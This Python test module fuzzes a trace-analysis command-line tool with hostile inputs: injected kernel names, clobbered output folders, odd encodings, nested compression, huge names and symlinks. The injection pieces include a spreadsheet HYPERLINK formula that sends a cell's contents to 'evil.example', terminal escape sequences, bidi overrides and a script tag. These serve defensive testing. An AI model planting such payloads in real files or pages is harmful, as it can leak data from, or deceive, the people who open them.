"""Seeded cases of the hostile-user audit's classes (issue 49), each with its own check.

    case(seed, work) -> {"seed", "kind", "problems": [...]}

Kinds, one per class the audit found:
- injection: trace names (kernel functions, which are then the blocks) made of hostile pieces:
  spreadsheet formulas, CR/LF, ANSI / OSC / C1 controls, bidi overrides, invisible and tag
  characters, Markdown and HTML syntax. `analyze --out` and `check --junit`: no raw control or
  invisible character in report.md, report.html, blocks.csv, the JUnit XML, stdout or stderr;
  no CSV text cell a spreadsheet would run; the XML parses.
- ownership: an output directory already holding the user's files and folders under bundle
  names and names of their own, with or without a manifest, with or without --force: nothing
  that is not a bundle name is ever changed or removed; without --force (and no manifest
  listing it) nothing of the user's is replaced and the run exits 2 with one line.
- encoding: the trace as UTF-8 with a BOM, UTF-16 or UTF-32 (with or without a BOM), with
  trailing commas and NaN / Infinity literals inserted: exit 0, a warning, the plain trace's
  headline.
- compression: 1-3 layers of gzip / bz2 / xz around it (exit 0, the same headline), or zstd /
  zip (exit 2 naming the format).
- amplification: one kernel name of 100 k to 20 M characters: summary.json under 10 MB.
- links: the output is the user's own link to a file (written through: inode and mode kept),
  or, as root, another user's link in a sticky directory (refused, its target unchanged).
Every case also requires: no exit 1, no traceback, an exit 2 with exactly one stderr line,
and the inputs unchanged.
"""

from __future__ import annotations

import bz2
import gzip
import hashlib
import json
import lzma
import os
import pathlib
import random
import re
import shutil
import stat
import xml.etree.ElementTree as ET

from helpers import run_cli

ROOT = pathlib.Path(__file__).resolve().parent.parent
TINY = ROOT / "fixtures" / "gpu" / "h100" / "h10080gbhbm3_llama3-8b_4layers_prefill1x512_decode_bs16_ncu_twin.json.gz"
KINDS = ("injection", "ownership", "encoding", "compression", "amplification", "links")

PIECES = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-3+4", "@SUM(A1)", "\t=tab", "\r=cr", "\n", "\r\n",
          "\x1b[2J", "\x1b]8;;http://evil\x07link\x1b]8;;\x07", "\x9b31m", "\x85", "\u202e", "\u2066", "\u200b", "\u200d",
          "\u2060", "\ufeff", "\U000e0041", "\u2028", "\u2029", "<script>alert(1)</script>", "](http://x)", "| cell |",
          "`code`", "**b**", "$x$", "&amp;", "\x00", "\x07", "\x0e", "名前", "kernel", "_", " "]
# what may never appear raw where a person reads
RAW = re.compile("[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028\u2029\u202a-\u202e\u2060\u2066-\u2069\ufeff"
                 "\U000e0000-\U000e007f]")
BUNDLE = ("summary.json", "report.md", "report.html", "kernels.parquet", "ops.parquet", "blocks.csv", "roofline.png", "breakdown.png")


def _doc() -> dict:
    return json.loads(gzip.decompress(TINY.read_bytes()))


def _digest(path: pathlib.Path) -> dict[str, str]:
    if path.is_file():
        return {"": hashlib.sha256(path.read_bytes()).hexdigest()}
    return {str(p.relative_to(path)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(path.rglob("*")) if p.is_file()}


def _common(run, problems: list[str], what: str) -> None:
    if run.returncode == 1 or "Traceback" in run.stderr:
        problems.append(f"{what}: exit {run.returncode}: {run.stderr[-300:]}")
    if run.returncode == 2 and len(run.stderr.strip().splitlines()) != 1:
        problems.append(f"{what}: exit 2 without one error line: {run.stderr[-300:]}")


def _headline(path) -> tuple[int, str, str]:
    run = run_cli("analyze", path, "--format", "json")
    return run.returncode, (json.loads(run.stdout)["headline"][0] if run.returncode == 0 else ""), run.stderr


def injection(rng: random.Random, work: pathlib.Path, problems: list[str]) -> None:
    from synthetic import KinetoBuilder

    names = {"".join(rng.choice(PIECES) for _ in range(rng.randint(1, 5))) for _ in range(rng.randint(1, 6))}
    b, t = KinetoBuilder(), 0.0
    for _ in range(5):
        for name in sorted(names):
            b.kernel(name, t, t + 5, 4.0)
            t += 10
    trace = pathlib.Path(b.write(work / "names.json"))
    before = _digest(trace)
    out = work / "out"
    run = run_cli("analyze", trace, "--out", out)
    _common(run, problems, "analyze --out")
    for stream, text in (("stdout", run.stdout), ("stderr", run.stderr)):
        if RAW.search(text):
            problems.append(f"raw control or invisible character on {stream}: {RAW.search(text).group()!r}")
    if run.returncode == 0:
        for name in ("report.md", "report.html", "blocks.csv"):
            text = (out / name).read_text(encoding="utf-8", errors="replace")
            if RAW.search(text.replace("\n", "").replace("\r", "") if name != "blocks.csv" else text.replace("\r\n", "\n").replace("\n", "")):
                problems.append(f"raw control or invisible character in {name}")
        import csv

        with open(out / "blocks.csv", newline="", encoding="utf-8") as f:
            for row in csv.DictReader(f):
                for key in ("phase", "block", "bound"):
                    if (row.get(key) or "").startswith(("=", "+", "-", "@", "\t", "\r")):
                        problems.append(f"blocks.csv {key} cell a spreadsheet runs: {row[key][:40]!r}")
    expect = work / "expect.toml"
    block = rng.choice(sorted(names))
    expect.write_text(f"[[expect]]\nblock = {json.dumps(block)}\nmax_share = 0.01\n", encoding="utf-8")
    junit = work / "junit.xml"
    run = run_cli("check", trace, "--expect", expect, "--junit", junit)
    _common(run, problems, "check --junit")
    if junit.exists():
        raw = junit.read_text(encoding="utf-8", errors="replace")
        if RAW.search(raw.replace("\n", "")):
            problems.append("raw control or invisible character in the JUnit XML")
        try:
            ET.fromstring(junit.read_bytes())
        except ET.ParseError as exc:
            problems.append(f"JUnit XML does not parse: {exc}")
    if _digest(trace) != before:
        problems.append("input modified")


def ownership(rng: random.Random, work: pathlib.Path, problems: list[str]) -> None:
    out = work / "mydir"
    out.mkdir()
    force = rng.random() < 0.3
    if rng.random() < 0.4:  # a bundle of tracekit's there already
        assert run_cli("analyze", TINY, "--out", out, "--format", "json").returncode == 0
    for name in rng.sample(BUNDLE, rng.randint(0, 3)) + ["notes.txt", "rank0", "data"][: rng.randint(0, 3)]:
        path = out / name
        if path.exists() and rng.random() < 0.5:  # the user's own edit of a tracekit file stays tracekit's
            continue
        if path.is_dir():
            shutil.rmtree(path)
        elif path.exists():
            path.unlink()
        if rng.random() < 0.5:
            path.mkdir()
            (path / "inside.txt").write_text(f"the user's {name}/")
        else:
            path.write_text(f"the user's {name}")
    manifest = out / "tracekit-manifest.json"
    owned = set(json.loads(manifest.read_text())["entries"]) if manifest.exists() else set()
    foreign = {p for p in os.listdir(out) if (p in BUNDLE or re.fullmatch(r"rank\d+", p)) and p not in owned | {manifest.name}}
    untouchable = {p for p in os.listdir(out) if p not in BUNDLE and p != manifest.name}  # never a bundle's name
    before = {p: _digest(out / p) for p in os.listdir(out)}
    args = ["analyze", TINY, "--out", out, "--format", "json"] + (["--force"] if force else [])
    run = run_cli(*args)
    _common(run, problems, " ".join(map(str, args[2:])))
    after = set(os.listdir(out))
    for p in untouchable:
        if p not in after or _digest(out / p) != before[p]:
            problems.append(f"{p} (not a bundle name) was changed or removed")
    if not force:
        if foreign and run.returncode != 2:
            problems.append(f"the user's {sorted(foreign)} not refused (exit {run.returncode})")
        for p in foreign:
            if p not in after or _digest(out / p) != before[p]:
                problems.append(f"the user's {p} was replaced without --force")


def _encoded(rng: random.Random, text: str) -> tuple[bytes, str]:
    form = rng.choice(["utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "plain"])
    data = text.encode("utf-8") if form == "plain" else text.encode(form)
    return data, form


def encoding(rng: random.Random, work: pathlib.Path, problems: list[str]) -> None:
    doc = _doc()
    text = json.dumps(doc)
    lenient = rng.random() < 0.6
    if lenient:  # a trailing comma after the events, NaN / Infinity in some args
        for event in rng.sample(doc["traceEvents"], 3):
            event.setdefault("args", {})["fuzz"] = rng.choice([float("nan"), float("inf"), float("-inf")])
        text = json.dumps(doc)
        at = text.rindex("]")
        text = text[:at] + "," + text[at:]
    data, form = _encoded(rng, text)
    path = work / "trace.json"
    path.write_bytes(data)
    code, headline, err = _headline(path)
    if code != 0:
        problems.append(f"{form}{' lenient' if lenient else ''}: exit {code}: {err[-300:]}")
        return
    plain_code, plain, _ = _headline(TINY)
    if headline != plain and not lenient:
        problems.append(f"{form}: another headline than the plain trace's")
    if form != "plain" and "UTF" not in err and "byte-order mark" not in err:
        problems.append(f"{form}: no warning says the encoding")
    if lenient and "trailing comma" not in err:
        problems.append("lenient JSON read without its warning")


def compression(rng: random.Random, work: pathlib.Path, problems: list[str]) -> None:
    data = gzip.decompress(TINY.read_bytes())
    layers = [rng.choice(["gzip", "bz2", "xz"]) for _ in range(rng.randint(1, 3))]
    unreadable = rng.random() < 0.2
    for layer in layers:
        data = {"gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress}[layer](data)
    if unreadable:
        layers.append(rng.choice(["zstd", "zip"]))
        data = (b"(\xb5/\xfd" if layers[-1] == "zstd" else b"PK\x03\x04") + data
    path = work / rng.choice(["trace.json.gz", "trace.json", "trace.json.bz2", "trace.bin"])
    path.write_bytes(data)
    run = run_cli("analyze", path, "--format", "json")
    _common(run, problems, f"{'/'.join(layers)} as {path.name}")
    if unreadable:
        if run.returncode != 2 or f"is {layers[-1]}-compressed" not in run.stderr:
            problems.append(f"{layers[-1]} not named: exit {run.returncode}: {run.stderr[-200:]}")
    elif run.returncode != 0:
        problems.append(f"{'/'.join(layers)}: exit {run.returncode}: {run.stderr[-200:]}")
    elif json.loads(run.stdout)["headline"][0] != _headline(TINY)[1]:
        problems.append(f"{'/'.join(layers)}: another headline than the plain trace's")


def amplification(rng: random.Random, work: pathlib.Path, problems: list[str]) -> None:
    doc = _doc()
    kernel = rng.choice([e for e in doc["traceEvents"] if e.get("cat") == "kernel"])
    kernel["name"] = rng.choice("kx<>,") * rng.randint(100_000, 20_000_000) + kernel["name"]
    path = work / "long.json.gz"
    path.write_bytes(gzip.compress(json.dumps(doc).encode(), 6))
    run = run_cli("analyze", path, "--out", work / "out", "--format", "json")
    _common(run, problems, "analyze a long name")
    if run.returncode == 0:
        size = (work / "out" / "summary.json").stat().st_size
        if size > max(10 << 20, 2 * path.stat().st_size):
            problems.append(f"summary.json of {size:,} bytes from a {path.stat().st_size:,}-byte input")
        if len(run.stdout) > 10 << 20:
            problems.append(f"{len(run.stdout):,} bytes of JSON on stdout")


def links(rng: random.Random, work: pathlib.Path, problems: list[str]) -> None:
    foreign = os.geteuid() == 0 and rng.random() < 0.5
    shared = work / "shared"
    shared.mkdir()
    os.chmod(shared, 0o1777)
    target = work / "target.json"
    target.write_text("the target's own")
    mode = rng.choice([0o600, 0o640, 0o644])
    os.chmod(target, mode)
    inode = target.stat().st_ino
    link = shared / "timeline.json"
    link.symlink_to(target)
    if foreign:
        os.lchown(link, 65534, 65534)
    command = rng.choice([["export", TINY, "--perfetto", link], ["analyze", TINY, "--out", link]])
    run = run_cli(*command)
    _common(run, problems, " ".join(map(str, command[:1] + command[2:3])))
    if foreign:
        if run.returncode != 2 or target.read_text() != "the target's own" or stat.S_IMODE(target.stat().st_mode) != mode:
            problems.append(f"another user's link was followed (exit {run.returncode})")
    elif command[0] == "export":
        if run.returncode != 0 or target.stat().st_ino != inode or stat.S_IMODE(target.stat().st_mode) != mode or not link.is_symlink():
            problems.append(f"the user's own link not written through in place (exit {run.returncode}: {run.stderr[-200:]})")
    elif run.returncode not in (0, 2):  # --out naming a link to a file: refused (a file, not a directory)
        problems.append(f"--out through a link to a file: exit {run.returncode}")


def case(seed: int, work: str, kinds: tuple[str, ...] = KINDS) -> dict:
    rng = random.Random(seed)
    kind = kinds[seed % len(kinds)]
    folder = pathlib.Path(work) / f"case{seed}"
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    os.chmod(folder, 0o777)
    problems: list[str] = []
    tiny_before = hashlib.sha256(TINY.read_bytes()).hexdigest()
    try:
        globals()[kind](rng, folder, problems)
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    if hashlib.sha256(TINY.read_bytes()).hexdigest() != tiny_before:
        problems.append("the bundled trace was modified")
    return {"seed": seed, "kind": kind, "problems": problems}
